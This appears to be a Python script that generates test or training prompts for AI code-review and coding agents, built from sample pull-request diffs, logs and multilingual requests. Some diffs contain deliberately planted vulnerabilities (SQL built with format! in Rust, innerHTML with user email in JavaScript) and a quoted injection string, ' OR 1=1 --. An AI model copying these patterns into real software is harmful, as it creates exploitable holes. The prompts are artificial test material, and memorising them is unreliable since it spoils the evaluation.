PR_DIFF_GO = """diff --git a/internal/crawl/pool.go b/internal/crawl/pool.go
index 4b5c6d7..8e9f0a1 100644
--- a/internal/crawl/pool.go
+++ b/internal/crawl/pool.go
@@ -17,10 +17,11 @@ type Result struct {
 
 func FetchAll(ctx context.Context, urls []string, workers int) []Result {
 	jobs := make(chan string)
-	var results []Result
+	out := make(chan Result, len(urls))
 	var wg sync.WaitGroup
 	client := &http.Client{Timeout: 10 * time.Second}
 
 	for i := 0; i < workers; i++ {
 		wg.Add(1)
 		go func() {
 			defer wg.Done()
 			for u := range jobs {
 				req, _ := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
 				resp, err := client.Do(req)
 				if err != nil {
-					results = append(results, Result{URL: u, Err: err})
+					out <- Result{URL: u, Err: err}
 					continue
 				}
 				resp.Body.Close()
-				results = append(results, Result{URL: u, Status: resp.StatusCode})
+				out <- Result{URL: u, Status: resp.StatusCode}
 			}
 		}()
 	}
 	for _, u := range urls {
 		jobs <- u
 	}
 	close(jobs)
 	wg.Wait()
+	close(out)
+	results := make([]Result, 0, len(urls))
+	for r := range out {
+		results = append(results, r)
+	}
 	fmt.Printf("fetched %d urls\\n", len(results))
 	return results
 }
"""

PR_DIFF_RUST = """diff --git a/src/routes/notes.rs b/src/routes/notes.rs
index 2c3d4e5..6f7a8b9 100644
--- a/src/routes/notes.rs
+++ b/src/routes/notes.rs
@@ -20,12 +20,20 @@ pub struct NewNote {
     body: String,
 }
 
-pub async fn list_notes(State(pool): State<PgPool>) -> Json<Vec<Note>> {
-    let notes = sqlx::query_as::<_, Note>("SELECT id, title, body FROM notes ORDER BY id")
-        .fetch_all(&pool)
-        .await
-        .unwrap();
-    Json(notes)
+#[derive(Deserialize)]
+pub struct ListParams {
+    q: Option<String>,
+    limit: Option<i64>,
+}
+
+pub async fn list_notes(State(pool): State<PgPool>, Query(p): Query<ListParams>) -> Result<Json<Vec<Note>>, StatusCode> {
+    let sql = match &p.q {
+        Some(q) => format!("SELECT id, title, body FROM notes WHERE title ILIKE '%{}%' ORDER BY id LIMIT {}", q, p.limit.unwrap_or(50)),
+        None => format!("SELECT id, title, body FROM notes ORDER BY id LIMIT {}", p.limit.unwrap_or(50)),
+    };
+    let notes = sqlx::query_as::<_, Note>(&sql).fetch_all(&pool).await.map_err(|_| StatusCode::INTERNAL_SERVER_ERROR)?;
+    Ok(Json(notes))
 }
"""

PR_DIFF_JAVA = """diff --git a/src/main/java/com/acme/rates/RateCache.java b/src/main/java/com/acme/rates/RateCache.java
index 7a6b5c4..3d2e1f0 100644
--- a/src/main/java/com/acme/rates/RateCache.java
+++ b/src/main/java/com/acme/rates/RateCache.java
@@ -3,24 +3,31 @@ package com.acme.rates;
 import java.math.BigDecimal;
 import java.time.Instant;
-import java.util.HashMap;
 import java.util.Map;
+import java.util.concurrent.ConcurrentHashMap;
 
 public class RateCache {
-    private final Map<String, BigDecimal> rates = new HashMap<>();
-    private Instant loadedAt = Instant.EPOCH;
+    private volatile Map<String, BigDecimal> rates = Map.of();
+    private volatile Instant loadedAt = Instant.EPOCH;
     private final RateProvider provider;
 
     public RateCache(RateProvider provider) {
         this.provider = provider;
     }
 
     public BigDecimal get(String currency) {
         if (Instant.now().isAfter(loadedAt.plusSeconds(3600))) {
-            rates.clear();
-            rates.putAll(provider.fetchAll());
-            loadedAt = Instant.now();
+            synchronized (this) {
+                if (Instant.now().isAfter(loadedAt.plusSeconds(3600))) {
+                    rates = new ConcurrentHashMap<>(provider.fetchAll());
+                    loadedAt = Instant.now();
+                }
+            }
         }
         BigDecimal r = rates.get(currency);
"""

PR_DIFF_C = """diff --git a/src/ringbuf.c b/src/ringbuf.c
index 5e6f7a8..9b0c1d2 100644
--- a/src/ringbuf.c
+++ b/src/ringbuf.c
@@ -7,6 +7,7 @@ struct ringbuf {
     size_t cap;
     size_t head;   /* next write */
     size_t tail;   /* next read */
+    size_t count;
 };
 
 ringbuf_t *rb_new(size_t cap)
@@ -14,13 +15,13 @@ ringbuf_t *rb_new(size_t cap)
     ringbuf_t *rb = malloc(sizeof *rb);
     rb->data = malloc(cap);
     rb->cap = cap;
-    rb->head = rb->tail = 0;
+    rb->head = rb->tail = rb->count = 0;
     return rb;
 }
 
 size_t rb_used(const ringbuf_t *rb)
 {
-    return (rb->head - rb->tail) % rb->cap;
+    return rb->count;
 }
@@ -33,6 +34,7 @@ size_t rb_write(ringbuf_t *rb, const void *src, size_t n)
         rb->data[rb->head] = ((const unsigned char *)src)[i];
         rb->head = (rb->head + 1) % rb->cap;
     }
+    rb->count += n;
     return n;
 }
@@ -45,6 +47,7 @@ size_t rb_read(ringbuf_t *rb, void *dst, size_t n)
         ((unsigned char *)dst)[i] = rb->data[rb->tail];
         rb->tail = (rb->tail + 1) % rb->cap;
     }
+    rb->count -= n;
     return n;
 }
"""

PR_DIFF_CPP = """diff --git a/src/event_bus.hpp b/src/event_bus.hpp
index 0a1b2c3..4d5e6f7 100644
--- a/src/event_bus.hpp
+++ b/src/event_bus.hpp
@@ -1,8 +1,9 @@
 #pragma once
 #include <functional>
-#include <map>
+#include <mutex>
 #include <string>
+#include <unordered_map>
 #include <vector>
 
 class EventBus {
 public:
@@ -10,20 +11,26 @@ public:
 
     int subscribe(const std::string& topic, Handler h) {
+        std::lock_guard<std::mutex> lock(mu_);
         int id = next_id_++;
         handlers_[topic].push_back({id, std::move(h)});
         return id;
     }
 
     void unsubscribe(const std::string& topic, int id) {
+        std::lock_guard<std::mutex> lock(mu_);
         auto& v = handlers_[topic];
-        for (auto it = v.begin(); it != v.end(); ++it) {
-            if (it->first == id) {
-                v.erase(it);
-            }
-        }
+        std::erase_if(v, [id](const auto& p) { return p.first == id; });
     }
 
     void publish(const std::string& topic, const std::string& payload) {
+        std::lock_guard<std::mutex> lock(mu_);
         for (auto& [id, h] : handlers_[topic]) {
             h(payload);
         }
     }
 
 private:
+    std::mutex mu_;
     int next_id_ = 1;
-    std::map<std::string, std::vector<std::pair<int, Handler>>> handlers_;
+    std::unordered_map<std::string, std::vector<std::pair<int, Handler>>> handlers_;
 };
"""

PR_DIFF_JS = """diff --git a/public/js/signup.js b/public/js/signup.js
index 6a7b8c9..0d1e2f3 100644
--- a/public/js/signup.js
+++ b/public/js/signup.js
@@ -1,20 +1,22 @@
-$(function () {
-  var $form = $("#signup-form");
-  var $btn = $form.find("button[type=submit]");
+document.addEventListener("DOMContentLoaded", () => {
+  const form = document.querySelector("#signup-form");
+  const btn = form.querySelector("button[type=submit]");
 
-  $form.on("submit", function (e) {
+  form.addEventListener("submit", async (e) => {
     e.preventDefault();
-    var email = $("#email").val().trim();
-    var pw = $("#password").val();
+    const email = document.querySelector("#email").value.trim();
+    const pw = document.querySelector("#password").value;
     if (!email || email.indexOf("@") === -1) {
-      $("#email-error").text("Please enter a valid email").show();
+      document.querySelector("#email-error").innerHTML = "Please enter a valid email: " + email;
       return;
     }
-    $btn.prop("disabled", true).text("Signing up...");
-    $.ajax({
-      url: "/api/signup",
+    btn.disabled = true;
+    const res = await fetch("/api/signup", {
       method: "POST",
-      data: JSON.stringify({ email: email, password: pw }),
-      contentType: "application/json",
+      body: JSON.stringify({ email, password: pw }),
+      headers: { "Content-Type": "application/json" },
+    });
+    const data = await res.json();
+    window.location = data.redirect || "/welcome";
"""

PR_DIFF_SQL = """diff --git a/db/migrations/0043_orders_status_index.sql b/db/migrations/0043_orders_status_index.sql
new file mode 100644
index 0000000..a1b2c3d
--- /dev/null
+++ b/db/migrations/0043_orders_status_index.sql
@@ -0,0 +1,9 @@
+-- 0043: speed up the pending-orders dashboard
+BEGIN;
+
+CREATE INDEX orders_status_created_idx ON orders (status, created_at);
+
+ALTER TABLE orders ALTER COLUMN status TYPE varchar(32);
+
+UPDATE orders SET status = 'cancelled' WHERE status = 'canceled';
+
+COMMIT;
"""


def pr(title: str, body: str, diff: str, extra: str = "") -> str:
    return f"## Pull request\n\nTitle: {title}\n\nDescription:\n{body}\n\n## Diff\n\n```diff\n{diff}```" + (f"\n\n{extra}" if extra else "")


add("review_bot", "review", "en", "typescript",
    "Review the following pull request. Report issues as a JSON array of {path, line, severity, comment}.",
    pr("auth: accept API keys and check token expiry", "Adds API key auth for the partner integration and returns a clearer error when the JWT is expired.", PR_DIFF_AUTH),
    json=True, rule="R6")
add("review_bot", "review", "en", "typescript",
    "Summarize this pull request for the PR description: a short overview, then a 'Changes' list per file. No review comments.",
    pr("auth: accept API keys and check token expiry", "(empty)", PR_DIFF_AUTH), rule="R10")
add("review_bot", "refactor", "en", "typescript",
    "@reviewbot the jwt.decode comment is valid. please propose the corrected version of requireAuth as a suggestion block (verify the signature, keep the api key path but compare keys hashed)",
    pr("auth: accept API keys and check token expiry", "Adds API key auth for the partner integration.", PR_DIFF_AUTH),
    history=[("assistant", "**src/middleware/auth.ts L20 (critical):** `jwt.decode` does not verify the signature. Any client can forge a token with an arbitrary `sub`. Use `jwt.verify` as before; it already checks `exp`.")],
    rule="R8")
add("review_bot", "review", "en", "python",
    "Review this pull request.",
    pr("worker: cancel stale orders in one UPDATE", "Performance: the loop did one UPDATE per order. Also makes the stale window configurable.", PR_DIFF_WORKER),
    rule="R6")
add("review_bot", "review", "en", "python",
    "Generate release notes for this change in the style of our CHANGELOG (### Changed / ### Fixed).",
    pr("worker: cancel stale orders in one UPDATE", "Performance: the loop did one UPDATE per order.", PR_DIFF_WORKER),
    rule="R10")
add("review_bot", "refactor", "en", "python",
    "@reviewbot you flagged that `stale` is re-evaluated after the update and matches nothing. fix it in a suggestion: capture the ids first, then update and release stock for those ids",
    pr("worker: cancel stale orders in one UPDATE", "Performance: the loop did one UPDATE per order.", PR_DIFF_WORKER),
    history=[("assistant", "**worker/tasks.py L34 (major):** `stale` is a lazy queryset. After `stale.update(...)` the rows no longer have status PENDING, so iterating `stale` afterwards yields nothing and `release_stock` is never called.")],
    rule="R8")
add("review_bot", "review", "en", "go",
    "Review the diff. Focus on concurrency.",
    pr("crawl: fix data race in FetchAll", "Fixes #212. Results are now collected through a channel.", PR_DIFF_GO), rule="R6")
add("review_bot", "review", "en", "go",
    "@reviewbot is the buffered channel of len(urls) actually needed here or would an unbuffered one deadlock? explain",
    pr("crawl: fix data race in FetchAll", "Fixes #212.", PR_DIFF_GO), rule="R6")
add("review_bot", "completion", "en", "go",
    "@reviewbot write a regression test for #212 that runs FetchAll against an httptest server with 200 urls and 16 workers and checks we get 200 results (to be run with -race)",
    pr("crawl: fix data race in FetchAll", "Fixes #212.", PR_DIFF_GO), rule="R4")
add("review_bot", "review", "en", "rust",
    "Review this pull request. Path instructions for src/**/*.rs: flag every unwrap() in request handlers and any SQL built with format!.",
    pr("notes: search and limit on list endpoint", "Adds ?q= and ?limit= to GET /notes.", PR_DIFF_RUST), rule="R6")
add("review_bot", "refactor", "en", "rust",
    "@reviewbot apply your SQL injection suggestion: rewrite list_notes with bind parameters and clamp limit to 1..=200",
    pr("notes: search and limit on list endpoint", "Adds ?q= and ?limit= to GET /notes.", PR_DIFF_RUST),
    history=[("assistant", "**src/routes/notes.rs L31 (critical):** `q` and `limit` are interpolated into SQL with `format!`. `q = \"' OR 1=1 --\"` returns all rows, and worse is possible. Use `.bind()` and `ILIKE '%' || $1 || '%'`.")],
    rule="R8")
add("review_bot", "review", "en", "java",
    "Review the diff.",
    pr("rates: make RateCache thread-safe", "Double-checked locking with volatile fields so readers never see a half-loaded map.", PR_DIFF_JAVA), rule="R6")
add("review_bot", "review", "en", "c",
    "Review the diff. Our path instructions for src/**/*.c: check integer overflow and every allocation for NULL.",
    pr("ringbuf: track count explicitly", "Fixes wraparound bug where rb_used underflowed, and full buffers looked empty.", PR_DIFF_C), rule="R6")
add("review_bot", "review", "en", "cpp",
    "Review this pull request; be terse, one line per issue.",
    pr("event bus: thread safety", "Adds a mutex so the bus can be used from the audio thread.", PR_DIFF_CPP), rule="R6")
add("review_bot", "planning", "en", "cpp",
    "@reviewbot you said holding the lock while calling handlers can deadlock. this PR is blocking the audio work. what's the right design here, and should we merge this as-is and follow up, or redo it? lay out the options and what you'd do",
    pr("event bus: thread safety", "Adds a mutex so the bus can be used from the audio thread.", PR_DIFF_CPP),
    history=[("assistant", "**src/event_bus.hpp L31 (major):** `publish` holds `mu_` while invoking handlers. A handler that calls `subscribe`/`unsubscribe` on the same bus will deadlock (non-recursive mutex), and a slow handler blocks every other thread's publish.")],
    rule="R13")
add("review_bot", "review", "en", "javascript",
    "Review the diff for security and behaviour changes.",
    pr("signup: drop jQuery", "Part of the jQuery removal epic. No behaviour change intended.", PR_DIFF_JS), rule="R6")
add("review_bot", "review", "en", "sql",
    "Review this migration. We run Postgres 16; orders has ~50M rows and the app is live during deploys.",
    pr("orders: index for pending dashboard", "Speeds up the pending orders dashboard query.", PR_DIFF_SQL), rule="R6")
add("review_bot", "refactor", "en", "sql",
    "@reviewbot rewrite the migration the safe way you described (concurrent index outside the transaction, batched update, type change as a separate migration)",
    pr("orders: index for pending dashboard", "Speeds up the pending orders dashboard query.", PR_DIFF_SQL),
    history=[("assistant", "**0043 (critical):** `CREATE INDEX` inside the transaction takes a SHARE lock on 50M rows and blocks writes for minutes; `ALTER COLUMN ... TYPE` rewrites the table under an ACCESS EXCLUSIVE lock; and the UPDATE touches every 'canceled' row in one transaction.")],
    rule="R8")
add("review_bot", "review", "zh", "python",
    "请审查这个 PR，重点关注事务和并发。",
    pr("worker: 过期订单批量取消", "用一条 UPDATE 代替循环保存，提升性能。", PR_DIFF_WORKER), rule="R6")
add("review_bot", "review", "zh", "go",
    "用中文总结这个 PR 改了什么，给 reviewer 一个三句话的概览。",
    pr("crawl: 修复 FetchAll 的数据竞争", "修复 #212", PR_DIFF_GO), rule="R10")
add("review_bot", "review", "ja", "java",
    "この PR をレビューしてください。ダブルチェックロッキングの実装が正しいかを特に確認してください。",
    pr("rates: RateCache をスレッドセーフにする", "volatile とダブルチェックロッキングで、読み取り側が中途半端なマップを見ないようにします。", PR_DIFF_JAVA), rule="R6")
add("review_bot", "review", "ja", "c",
    "@reviewbot rb_write で n が free_space に切り詰められた後に count += n してますが、これで合ってますか？",
    pr("ringbuf: count を明示的に持つ", "rb_used のアンダーフローを修正", PR_DIFF_C), rule="R6")
add("review_bot", "review", "de", "typescript",
    "Bitte dieses PR reviewen. Antworte auf Deutsch, nur konkrete Probleme.",
    pr("auth: API-Keys akzeptieren", "API-Key-Authentifizierung für die Partner-Integration.", PR_DIFF_AUTH), rule="R6")
add("review_bot", "review", "de", "javascript",
    "Schreib eine Commit-Message (Conventional Commits) für diesen Diff.",
    pr("signup: jQuery entfernen", "Teil des jQuery-Epics.", PR_DIFF_JS), rule="R10")
add("review_bot", "review", "ru", "rust",
    "Проведи ревью этого PR. Отвечай по-русски.",
    pr("notes: поиск и limit в списке", "Добавляет ?q= и ?limit= в GET /notes.", PR_DIFF_RUST), rule="R6")
add("review_bot", "review", "es", "sql",
    "Revisa esta migración. La tabla orders tiene unos 50 millones de filas y no podemos parar el servicio.",
    pr("orders: índice para el panel de pendientes", "Acelera la consulta del panel.", PR_DIFF_SQL), rule="R6")
add("review_bot", "refactor", "es", "javascript",
    "@reviewbot aplica tus sugerencias: usa textContent en vez de innerHTML, maneja res.ok y vuelve a habilitar el botón si falla",
    pr("signup: quitar jQuery", "Parte de la épica de eliminar jQuery.", PR_DIFF_JS),
    history=[("assistant", "**public/js/signup.js L15 (critical):** `innerHTML` con el email del usuario permite XSS. **L25 (major):** no se comprueba `res.ok`; un 4xx/5xx redirige igualmente.")],
    rule="R8")
add("review_bot", "review", "en", "go",
    "Walkthrough: describe the change file by file in a table (file, summary), then a sequence diagram of the new flow in mermaid.",
    pr("crawl: fix data race in FetchAll", "Fixes #212.", PR_DIFF_GO), rule="R10")
add("review_bot", "planning", "en", "python",
    "@reviewbot we keep getting PRs like this one that tweak celery tasks without tests. what should our testing approach for celery tasks be (unit vs integration, eager mode, fixtures), and what should we require in PRs going forward?",
    pr("worker: cancel stale orders in one UPDATE", "Performance: the loop did one UPDATE per order.", PR_DIFF_WORKER), rule="R4")
add("review_bot", "review", "en", "typescript",
    "Is this PR a breaking change for API consumers? Answer yes/no with a one-paragraph justification.",
    pr("auth: accept API keys and check token expiry", "Adds API key auth for the partner integration.", PR_DIFF_AUTH), rule="R6")
add("review_bot", "completion", "en", "typescript",
    "@reviewbot generate jest tests for requireAuth covering: valid api key, unknown api key falls through to JWT, expired token 401, malformed header 401",
    pr("auth: accept API keys and check token expiry", "Adds API key auth for the partner integration.", PR_DIFF_AUTH), rule="R4")
add("review_bot", "review", "en", "java",
    "@reviewbot complete list of the issues you see in this diff, I want to fix them all in one go",
    pr("rates: make RateCache thread-safe", "Double-checked locking with volatile fields.", PR_DIFF_JAVA), rule="R11")
add("review_bot", "planning", "en", "none",
    "@reviewbot this is the 4th PR this month patching thread-safety in the rates module. should we redesign how rates are loaded (push from the rates service, a scheduled refresher, caffeine)? give me a recommendation and the steps, I'll turn it into an issue",
    pr("rates: make RateCache thread-safe", "Double-checked locking with volatile fields.", PR_DIFF_JAVA), rule="R6")
add("review_bot", "review", "ko", "cpp",
    "이 PR 리뷰해줘. 오디오 스레드에서 사용할 예정이라 실시간성 문제도 봐줘.",
    pr("event bus: 스레드 안전성", "오디오 스레드에서도 쓸 수 있게 mutex 추가", PR_DIFF_CPP), rule="R6")
add("review_bot", "review", "it", "python",
    "Fai una review di questa PR, solo problemi concreti.",
    pr("worker: annulla ordini scaduti in un solo UPDATE", "Migliora le prestazioni.", PR_DIFF_WORKER), rule="R6")


# ---------------------------------------------------------------------------------------
# Batch 9: more agent plan-mode sessions, long contexts, multi-asks and hard cases
# ---------------------------------------------------------------------------------------

def gen_gc_log() -> str:
    """A long JVM/app log as a service prints it (deterministic)."""
    out = []
    heap = 1210
    for i in range(150):
        ts = f"2025-10-14T03:{(i // 6) % 60:02d}:{(i * 7) % 60:02d}.{(i * 131) % 1000:03d}Z"
        heap = heap + 37 if i % 9 else heap - 410
        if i % 9 == 0:
            out.append(f"{ts} [gc,start] GC({i // 9 + 4410}) Pause Young (G1 Evacuation Pause)")
            out.append(f"{ts} [gc] GC({i // 9 + 4410}) Pause Young (G1 Evacuation Pause) {heap + 410}M->{heap}M(2048M) {12 + (i % 5) * 7}.{i % 10}ms")
        elif i % 23 == 0:
            out.append(f"{ts} [gc] GC({i // 9 + 4410}) Pause Full (G1 Compaction Pause) 2031M->1988M(2048M) {1800 + i * 3}.2ms")
            out.append(f"{ts} WARN  c.a.rates.RateCache - refresh took {2100 + i * 11}ms")
        else:
            out.append(f"{ts} INFO  c.a.api.RequestLog - GET /api/rates/{['EUR', 'USD', 'GBP', 'JPY', 'CHF'][i % 5]} 200 {4 + (i * 13) % 90}ms")
    out.append("2025-10-14T03:25:41.002Z ERROR c.a.api.ErrorHandler - java.lang.OutOfMemoryError: Java heap space")
    out.append("\tat java.base/java.util.Arrays.copyOf(Arrays.java:3541)")
    out.append("\tat java.base/java.lang.AbstractStringBuilder.ensureCapacityInternal(AbstractStringBuilder.java:242)")
    out.append("\tat com.acme.export.CsvExporter.appendRow(CsvExporter.java:88)")
    out.append("\tat com.acme.export.CsvExporter.exportAll(CsvExporter.java:51)")
    out.append("\tat com.acme.api.ExportController.download(ExportController.java:34)")
    return "\n".join(out) + "\n"


GC_LOG = gen_gc_log()

BIG_ORDERS_PY = S["py_django_orders"].text + "\n\n" + S["py_worker"].text + "\n\n" + S["py_invoice"].text + "\n\n" + S["py_pagination"].text

# --- Codex plan mode and plan-first -----------------------------------------------------------

add("codex", "planning", "en", "python",
    "we need a CSV export for every report on the reports page (there are 11). some reports are huge. come up with the approach: sync vs async generation, where files live, how users get notified. read the code first",
    rule="R2", repo="analytics-web", plan=True,
    steps=[("shell", "rg -n 'def (get|build)_.*report' reports/ | head -20", "reports/views.py:22:def get_sales_report(request):\nreports/views.py:61:def get_churn_report(request):\nreports/views.py:97:def get_inventory_report(request):\nreports/builders.py:14:def build_sales_report(start, end, region=None):\nreports/builders.py:58:def build_churn_report(start, end):\nreports/builders.py:90:def build_inventory_report(warehouse_id=None):\nreports/builders.py:131:def build_cohort_report(start, end, granularity=\"month\"):\n"),
           ("shell", "sed -n '1,60p' reports/builders.py", "from django.db import connection\n\nfrom .sql import SALES_SQL, CHURN_SQL, INVENTORY_SQL, COHORT_SQL\n\n\ndef _rows(sql, params):\n    with connection.cursor() as cur:\n        cur.execute(sql, params)\n        cols = [c[0] for c in cur.description]\n        return [dict(zip(cols, r)) for r in cur.fetchall()]\n\n\ndef build_sales_report(start, end, region=None):\n    rows = _rows(SALES_SQL, {\"start\": start, \"end\": end, \"region\": region})\n    totals = {}\n    for r in rows:\n        totals.setdefault(r[\"region\"], 0)\n        totals[r[\"region\"]] += r[\"amount\"]\n    return {\"rows\": rows, \"totals\": totals}\n")])

add("codex", "planning", "en", "typescript",
    "Plan only: move the test suite from Jest to Vitest. ~900 tests, some use jest.mock with factory hoisting, some use fake timers, snapshot tests in 40 files. What's the order of work and what will bite us?",
    rule="R2", repo="storefront", plan=True,
    steps=[("shell", "cat jest.config.js && rg -l 'jest.mock\\(' src | wc -l && rg -l 'useFakeTimers' src | wc -l", "module.exports = {\n  testEnvironment: \"jsdom\",\n  transform: { \"^.+\\\\.(t|j)sx?$\": [\"@swc/jest\"] },\n  moduleNameMapper: { \"\\\\.(css|scss)$\": \"identity-obj-proxy\", \"^@/(.*)$\": \"<rootDir>/src/$1\" },\n  setupFilesAfterEach: [\"<rootDir>/test/setup.ts\"],\n  collectCoverageFrom: [\"src/**/*.{ts,tsx}\"],\n};\n212\n37\n")])

add("codex", "planning", "zh", "go",
    "计划模式：给 gateway 接入 OpenTelemetry（traces + metrics），上游是三个 Go 服务，下游有 Postgres 和 Redis。先调研现有的日志和中间件，给出接入方案、采样策略、以及要改哪些文件",
    rule="R2", repo="gateway", plan=True,
    steps=[("shell", "sed -n '1,80p' internal/httpx/middleware.go && rg -n 'slog.New' -g '*.go'", S["go_middleware"].text + "cmd/gateway/main.go:28:\tlog := slog.New(slog.NewJSONHandler(os.Stdout, nil))\n")])

add("codex", "planning", "en", "python",
    "The shop app has grown to hold orders, payments and catalog logic. I'd like to split it into three Django apps without breaking migrations or the admin. Plan mode: figure out the dependencies between the models and propose the sequence.",
    rule="R2", repo="shop", plan=True,
    steps=[("shell", "cat shop/models.py worker/tasks.py billing/invoice.py app/pagination.py", BIG_ORDERS_PY),
           ("shell", "ls shop/migrations | tail -5 && rg -n \"'shop\\.\" --type py | wc -l", "0031_order_shipping_address.py\n0032_orderitem_price_decimal.py\n0033_order_status_choices.py\n0034_auto_20250901_1012.py\n0035_order_created_at_index.py\n148\n")])

add("codex", "planning", "ja", "swift",
    "プランモードでお願いします。iOS アプリを多言語対応（日本語・英語・韓国語）したいです。String Catalog への移行、サーバーから来る文言、日付や通貨のフォーマット、スクリーンショットテストまで含めて、どのファイルをどう変えるか計画してください",
    rule="R2", repo="ios-app", plan=True,
    steps=[("shell", "rg -n '\"[A-Z][a-z]+ [a-z]+' Sources --type swift | head -12", "Sources/App/Feed/FeedView.swift:31:            Text(\"Load more\")\nSources/App/Feed/FeedView.swift:44:                .navigationTitle(\"Your feed\")\nSources/App/Profile/ProfileView.swift:22:            Button(\"Edit profile\") {\nSources/App/Settings/SettingsView.swift:15:            Toggle(\"Dark mode\", isOn: $settings.darkMode)\nSources/App/Settings/SettingsView.swift:18:            Toggle(\"Push notifications\", isOn: $settings.push)\nSources/App/Auth/LoginView.swift:40:            Text(\"Forgot password?\")\n")])

add("codex", "planning", "de", "scala",
    "Erstmal nur planen, nichts ändern: Wir wollen den sbt-Build von Scala 2.12 auf 2.13 (und später 3) heben. Schau dir build.sbt und die Abhängigkeiten an und sag mir, was blockiert, in welcher Reihenfolge wir vorgehen und wie wir Spark-Kompatibilität sicherstellen.",
    rule="R2", repo="data-jobs",
    steps=[("shell", "cat build.sbt", "ThisBuild / scalaVersion := \"2.12.18\"\nThisBuild / organization := \"com.acme\"\n\nlazy val root = (project in file(\".\"))\n  .settings(\n    name := \"data-jobs\",\n    libraryDependencies ++= Seq(\n      \"org.apache.spark\" %% \"spark-sql\" % \"3.3.2\" % Provided,\n      \"com.typesafe\" % \"config\" % \"1.4.2\",\n      \"com.github.scopt\" %% \"scopt\" % \"3.7.1\",\n      \"io.spray\" %% \"spray-json\" % \"1.3.5\",\n      \"org.scalatest\" %% \"scalatest\" % \"3.0.8\" % Test,\n    ),\n    assembly / assemblyMergeStrategy := {\n      case PathList(\"META-INF\", _*) => MergeStrategy.discard\n      case _ => MergeStrategy.first\n    },\n  )\n")])

add("codex", "planning", "ru", "rust",
    "Режим планирования. Наш CLI wcx синхронный и читает файлы по одному. Хотим: параллельную обработку, поддержку stdin и глобов, вывод в JSON, и чтобы не грузить большие файлы в память целиком. Составь план изменений по модулям.",
    rule="R2", repo="wcx", plan=True,
    steps=[("shell", "cat src/main.rs Cargo.toml", S["rs_cli"].text + "[package]\nname = \"wcx\"\nversion = \"0.2.1\"\nedition = \"2021\"\n\n[dependencies]\nclap = { version = \"4\", features = [\"derive\"] }\n")])

add("codex", "planning", "es", "elixir",
    "Antes de tocar nada, quiero un plan: añadir notificaciones en tiempo real a la tienda Phoenix (LiveView) cuando cambia el estado de un pedido, con Phoenix.PubSub, y que también lleguen por email si el usuario no está conectado. ¿Qué módulos tocamos y en qué orden?",
    rule="R2", repo="shop-ex",
    steps=[("shell", "ls lib/shop lib/shop_web/live && rg -n 'def update_status' lib", "accounts.ex\ncart.ex\norders.ex\norders/\nrate_limiter.ex\nrepo.ex\n\norder_live/\nproduct_live/\n\nlib/shop/orders.ex:88:  def update_status(%Order{} = order, status) do\n")])

# --- Codex: refactor sessions in progress, long outputs ---------------------------------------

add("codex", "refactor", "en", "java",
    "the export endpoint OOMs on big accounts (log below). stream the CSV to the response instead of building it in a StringBuilder. fix it",
    rule="R3", repo="rates-api",
    steps=[("shell", "kubectl logs deploy/rates-api --since=2h | tail -320", GC_LOG),
           ("shell", "sed -n '30,100p' src/main/java/com/acme/export/CsvExporter.java", "    public String exportAll(long accountId) {\n        StringBuilder sb = new StringBuilder();\n        sb.append(HEADER).append('\\n');\n        int page = 0;\n        List<RateRow> rows;\n        do {\n            rows = repo.findByAccount(accountId, PageRequest.of(page++, 5000));\n            for (RateRow r : rows) {\n                appendRow(sb, r);\n            }\n        } while (!rows.isEmpty());\n        return sb.toString();\n    }\n\n    private void appendRow(StringBuilder sb, RateRow r) {\n        sb.append(r.getDate()).append(',')\n          .append(r.getCurrency()).append(',')\n          .append(r.getRate()).append(',')\n          .append(escape(r.getSource())).append('\\n');\n    }\n")])

add("codex", "review", "en", "java",
    "what's going on in this log? is it a leak or just a too-small heap? don't change code yet",
    rule="R5", repo="rates-api",
    steps=[("shell", "kubectl logs deploy/rates-api --since=2h | tail -320", GC_LOG)])

add("codex", "refactor", "en", "python",
    "tests still failing after your change, keep going",
    rule="R3", repo="billing",
    history=[("user", "Invoice.total() rounds only at the end; the tax office wants VAT rounded per line. change vat() accordingly and update the tests"),
             ("assistant", "Updated `vat()` to quantize each line's VAT to cents with ROUND_HALF_UP before summing, and adjusted `test_total_with_vat` to the new expected value.")],
    steps=[("shell", "python -m pytest -q tests/test_invoice.py", "..F.F\n=================================== FAILURES ===================================\n_____________________________ test_discount_applied _____________________________\n\n    def test_discount_applied():\n        inv = Invoice(\"A-1\", \"ACME\", [LineItem(\"X\", 3, Decimal(\"0.333\"))], discount=Decimal(\"0.10\"))\n>       assert inv.total() == Decimal(\"1.10\")\nE       AssertionError: assert Decimal('1.09') == Decimal('1.10')\n\ntests/test_invoice.py:31: AssertionError\n_____________________________ test_zero_vat_items ______________________________\n\n    def test_zero_vat_items():\n        inv = Invoice(\"A-2\", \"ACME\", [LineItem(\"B\", 1, Decimal(\"10\"), vat_rate=Decimal(\"0\"))])\n>       assert inv.vat() == Decimal(\"0.00\")\nE       AssertionError: assert 0 == Decimal('0.00')\n\ntests/test_invoice.py:44: AssertionError\n2 failed, 3 passed in 0.05s\n"),
           ("shell", "cat billing/invoice.py", S["py_invoice"].text)])

add("codex", "completion", "en", "none",
    "write a Dockerfile for this app: python 3.12 slim, poetry for deps (no dev deps in the image), run as non-root, gunicorn on 8000 with the wsgi module from the Procfile",
    rule="R7", repo="accounts",
    steps=[("shell", "cat Procfile pyproject.toml | head -30", "web: gunicorn accounts.wsgi:application --workers 3 --timeout 30\n[tool.poetry]\nname = \"accounts\"\nversion = \"1.8.0\"\n\n[tool.poetry.dependencies]\npython = \"^3.12\"\nflask = \"^3.1\"\nflask-sqlalchemy = \"^3.1\"\npsycopg = {extras = [\"binary\"], version = \"^3.2\"}\ngunicorn = \"^23.0\"\n\n[tool.poetry.group.dev.dependencies]\npytest = \"^8.3\"\nruff = \"^0.6\"\n")])

add("codex", "review", "en", "none",
    "summarize the diff on this branch vs main for the PR description. what changed and why, 5 bullets max",
    rule="R10", repo="crawler",
    steps=[("shell", "git diff main...HEAD --stat && git diff main...HEAD", " internal/crawl/pool.go | 13 +++++++++----\n 1 file changed, 9 insertions(+), 4 deletions(-)\n" + PR_DIFF_GO)])

# --- opencode / Qwen plan mode --------------------------------------------------------------

add("opencode", "planning", "en", "typescript",
    "plan: add dark mode to the admin UI. there's a theme object in src/theme.ts and styled-components everywhere. persistence per user, respect prefers-color-scheme. what do we touch",
    rule="R2", repo="admin-ui", plan=True, files=["src/", "src/components/", "src/theme.ts", "package.json"],
